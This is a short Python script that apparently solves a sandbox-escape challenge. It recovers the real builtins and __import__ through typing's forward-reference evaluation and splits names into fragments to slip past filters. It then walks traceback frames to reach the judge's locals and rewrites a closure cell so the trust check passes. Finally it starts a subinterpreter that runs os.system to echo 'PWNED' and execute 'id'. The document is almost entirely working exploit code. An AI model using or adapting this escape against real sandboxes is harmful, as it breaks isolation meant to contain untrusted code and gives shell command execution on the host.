# launcher: trusted()'s stdlib prefix cell set to '': every frame is the library's, so the program imports anything
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
tbm = rb["__imp" + "ort__"]("traceback")  # loaded by the launcher: no import event
def hook_locals():
    try:
        open("/proc/self/maps")
    except Exception as e:
        err = e
    for f, _ in tbm.walk_tb(err.__traceback__):
        fl = ga(f, "f_loc" + "als")
        if "judge" in fl:
            return fl
    return {}
judge = hook_locals().get("judge")
def cell_of(fn, test):
    for c in ga(fn, "__clo" + "sure__") or ():
        try:
            if test(c.cell_contents):
                return c
        except Exception:
            pass
def named(n):
    return lambda v: ga(v, "__na" + "me__", None) == n

trusted = cell_of(judge, named("trusted")).cell_contents
cell_of(trusted, lambda v: type(v) is str and v.endswith("/")).cell_contents = ""
si = imp("_xxsub" + "interpreters")
si.run_string(si.create(), "import os; os.system(\"echo PWN''ED from a subinterpreter; id\")")
